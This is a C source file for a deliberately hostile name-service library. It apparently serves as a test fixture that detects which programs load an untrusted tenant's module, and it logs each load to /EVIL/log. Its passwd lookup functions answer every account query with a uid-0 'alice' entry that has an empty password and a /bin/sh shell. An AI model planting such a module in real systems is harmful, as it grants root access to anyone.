/*
 * A tenant's library. It tells in /EVIL/log who loaded it, and gives hostile
 * answers. It is built as the NSS module MODULE; the same file does as a PAM or
 * gconv module or as any other library, since to be loaded is all it wants.
 */
#include <dlfcn.h>
#include <errno.h>
#include <fcntl.h>
#include <grp.h>
#include <gshadow.h>
#include <nss.h>
#include <pwd.h>
#include <shadow.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#define GLUE(module, name) _nss_##module##_##name
#define GLUE_EXPANDED(module, name) GLUE(module, name)
#define NSS(name) GLUE_EXPANDED(MODULE, name)

static void tell(const char *what)
{
	int fd = open("/EVIL/log", O_WRONLY | O_APPEND | O_CLOEXEC);
	char exe[256] = "?", line[1024];
	ssize_t length = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
	Dl_info info = { .dli_fname = "?" };

	if (length >= 0)
		exe[length] = '\0';
	dladdr((void *)tell, &info);
	length = snprintf(line, sizeof(line),
			  "uid=%u euid=%u pid=%d exe=%s lib=%s %s\n", getuid(),
			  geteuid(), getpid(), exe, info.dli_fname, what);
	if (fd < 0 || write(fd, line, (size_t)length) < 0)
		return;
	close(fd);
}

static __attribute__((constructor)) void loaded(void)
{
	tell("loaded");
}

/* Whatever account somebody asks for, the answer is that it is root. */
static enum nss_status give_root(struct passwd *pw, int *error)
{
	static char name[] = "alice", empty[] = "", shell[] = "/bin/sh";

	tell("asked for an account");
	*error = 0;
	*pw = (struct passwd){ .pw_name = name,
			       .pw_passwd = empty,
			       .pw_gecos = empty,
			       .pw_dir = empty,
			       .pw_shell = shell };
	return NSS_STATUS_SUCCESS;
}

static enum nss_status give_nothing(const char *what, int *error)
{
	tell(what);
	*error = ENOENT;
	return NSS_STATUS_NOTFOUND;
}

enum nss_status NSS(getpwnam_r)(const char *name, struct passwd *pw,
				char *buffer, size_t size, int *error)
{
	(void)name;
	(void)buffer;
	(void)size;
	return give_root(pw, error);
}

enum nss_status NSS(getpwuid_r)(uid_t uid, struct passwd *pw, char *buffer,
				size_t size, int *error)
{
	(void)uid;
	(void)buffer;
	(void)size;
	return give_root(pw, error);
}

enum nss_status NSS(getgrnam_r)(const char *name, struct group *gr,
				char *buffer, size_t size, int *error)
{
	(void)name;
	(void)gr;
	(void)buffer;
	(void)size;
	return give_nothing("asked for a group", error);
}

enum nss_status NSS(getgrgid_r)(gid_t gid, struct group *gr, char *buffer,
				size_t size, int *error)
{
	(void)gid;
	(void)gr;
	(void)buffer;
	(void)size;
	return give_nothing("asked for a group", error);
}

enum nss_status NSS(initgroups_dyn)(const char *user, gid_t primary,
				    long *start, long *size, gid_t **groups,
				    long limit, int *error)
{
	(void)user;
	(void)primary;
	(void)limit;
	(void)error;
	tell("asked for groups");
	if (*start < *size)
		(*groups)[(*start)++] = 6;
	return NSS_STATUS_SUCCESS;
}

enum nss_status NSS(getspnam_r)(const char *name, struct spwd *sp, char *buffer,
				size_t size, int *error)
{
	(void)name;
	(void)sp;
	(void)buffer;
	(void)size;
	return give_nothing("asked for a password", error);
}

enum nss_status NSS(getsgnam_r)(const char *name, struct sgrp *sg, char *buffer,
				size_t size, int *error)
{
	(void)name;
	(void)sg;
	(void)buffer;
	(void)size;
	return give_nothing("asked for a group password", error);
}
